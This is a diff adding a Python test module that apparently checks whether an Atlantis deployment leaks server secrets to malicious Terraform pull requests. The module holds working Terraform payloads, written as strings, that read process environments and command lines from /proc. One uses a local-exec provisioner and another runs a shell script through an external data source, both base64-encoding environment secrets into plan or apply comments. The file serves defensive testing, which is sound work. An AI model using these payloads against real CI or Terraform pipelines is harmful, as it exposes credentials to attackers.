@@ -1,0 +1,168 @@
+"""Attacks with Terraform alone: functions and provisioners that run as Atlantis' user, without a provider."""
+
+import re
+
+from sandbox.attack.pull_requests import commented, planned
+from sandbox.attack.row import Outcome, Row, SkippedError
+from sandbox.attack.secret_forms import found_in, shows
+from sandbox.attack.target import Target
+
+__all__ = ["ROWS", "secrets_in", "shown_in"]
+
+_NOT_SECRET = "ATLANTIS_REPO_ALLOWLIST"  # noqa: S105 - the name of a variable
+"""A setting in the server's environment: if a plan really read an environment, its output contains it."""
+
+_OWN_ENVIRONMENT = 'output "loot" {\n  value = filebase64("/proc/self/environ")\n}\n'
+_EVERY_ENVIRONMENT = """
+output "loot" {
+  value = { for path in fileset("/proc", "[0-9]*/environ") : path => try(filebase64("/proc/${path}"), "") }
+}
+"""
+_EVERY_COMMAND_LINE = """
+output "loot" {
+  value = { for path in fileset("/proc", "[0-9]*/cmdline") : path => try(filebase64("/proc/${path}"), "") }
+}
+"""
+_PROVISIONER = """
+resource "terraform_data" "loot" {
+  provisioner "local-exec" {
+    command = "env | base64; cat /proc/self/environ /proc/$PPID/environ | base64"
+  }
+}
+"""
+
+
+def secrets_in(target: Target, text: str) -> Outcome:
+    """An attempt that succeeded if ``text`` contains a secret of the task in any form."""
+    found = found_in(text, target.secrets)
+    return Outcome(bool(found), f"found {', '.join(found)}" if found else "no secret in any form")
+
+
+def shown_in(text: str, value: str) -> Outcome:
+    """A control: ``text`` contains ``value``, so the attempt could read the source."""
+    shown = shows(text, value)
+    name = value.replace("\0", " ")
+    return Outcome(shown, f"{name} can be read" if shown else f"{name} can't be read: {text[:300]!r}")
+
+
+def _reading(
+    name: str, configuration: str, *, attack: str, tried: str, refused_by: str, shown: str = _NOT_SECRET
+) -> Row:
+    """An attack whose plan prints what it can read. The comment must contain a value that isn't secret, and no secret."""
+
+    def text(target: Target) -> str:
+        return target.once(name, lambda: planned(target, name, {"main.tf": configuration}).text)
+
+    return Row(
+        name=name,
+        attack=attack,
+        tried=tried,
+        refused_by=refused_by,
+        attempt=lambda target: secrets_in(target, text(target)),
+        control=lambda target: shown_in(text(target), shown),
+    )
+
+
+def _applied(target: Target) -> str:
+    def apply() -> str:
+        plan = planned(target, "local-exec", {"main.tf": _PROVISIONER})
+        target.github.approve(plan.pull, "reviewer")
+        # Terraform adds a prefix to each line of a provisioner's output.
+        return re.sub(
+            r"^.*\(local-exec\): ", "", commented(target, plan.pull, "atlantis apply").text, flags=re.MULTILINE
+        )
+
+    return target.once("local-exec", apply)
+
+
+_EXTERNAL = """
+terraform {
+  required_providers {
+    external = { source = "hashicorp/external" }
+  }
+}
+
+data "external" "loot" {
+  program = ["sh", "${path.module}/loot.sh"]
+}
+
+output "loot" {
+  value = data.external.loot.result.loot
+}
+"""
+_PROGRAM = """
+loot=$(cat /proc/self/environ "/proc/$PPID/environ" | base64 | tr -d '\\n')
+printf '{"loot": "%s"}' "$loot"
+"""
+_NOT_INSTALLED = "Failed to query available provider packages"
+
+
+def _by_external(target: Target) -> str:
+    files = {"main.tf": _EXTERNAL, "loot.sh": _PROGRAM}
+    text = target.once("external-program", lambda: planned(target, "external-program", files).text)
+    if _NOT_INSTALLED in text:
+        raise SkippedError(
+            "the sandbox has no access to a registry, and this machine has no hashicorp/external provider"
+        )
+    return text
+
+
+def _everything_written(target: Target) -> str:
+    """Every comment that Atlantis has written so far, from at least one malicious plan."""
+    target.once(
+        "file-own-environment", lambda: planned(target, "file-own-environment", {"main.tf": _OWN_ENVIRONMENT}).text
+    )
+    return "\n".join(entry["body"] for entry in target.github.recorded("comments"))
+
+
+_TAKEN_OVER = "the container's start script, which removes the secrets from the environment"
+
+ROWS = (
+    _reading(
+        "file-own-environment",
+        _OWN_ENVIRONMENT,
+        attack="Print the server's secrets in the plan's comment",
+        tried='filebase64("/proc/self/environ") in an output',
+        refused_by=_TAKEN_OVER,
+    ),
+    _reading(
+        "file-every-environment",
+        _EVERY_ENVIRONMENT,
+        attack="Print the environment of the server and of process 1",
+        tried='filebase64 of every file of fileset("/proc", "[0-9]*/environ")',
+        refused_by=f"{_TAKEN_OVER}; also, the user can't read the environment of the server's process",
+    ),
+    _reading(
+        "file-command-lines",
+        _EVERY_COMMAND_LINE,
+        attack="Find a secret in the arguments of a process",
+        tried='filebase64 of every file of fileset("/proc", "[0-9]*/cmdline")',
+        refused_by="the container's start script, which doesn't pass secrets as arguments",
+        shown="server\0--config",
+    ),
+    Row(
+        name="local-exec",
+        attack="Print the server's secrets in an apply's comment",
+        tried="a local-exec provisioner, approved by a careless reviewer, that prints its own and its parent's environment",
+        refused_by=_TAKEN_OVER,
+        attempt=lambda target: secrets_in(target, _applied(target)),
+        control=lambda target: shown_in(_applied(target), _NOT_SECRET),
+    ),
+    Row(
+        name="external-program",
+        attack="Print the server's secrets with a program that a plan runs",
+        tried='a data source "external" whose program prints its own environment and that of its parent',
+        refused_by=_TAKEN_OVER,
+        attempt=lambda target: secrets_in(target, _by_external(target)),
+        control=lambda target: shown_in(_by_external(target), _NOT_SECRET),
+    ),
+    Row(
+        name="every-comment",
+        attack="Find a secret in any comment that Atlantis wrote for these pull requests",
+        tried="all comments of all attacks, searched for each secret and each of its lines: plain, JSON, base64 and hexadecimal",
+        refused_by="all of these controls together",
+        attempt=lambda target: secrets_in(target, _everything_written(target)),
+        control=lambda target: shown_in(_everything_written(target), _NOT_SECRET),
+        alone=True,
+    ),
+)
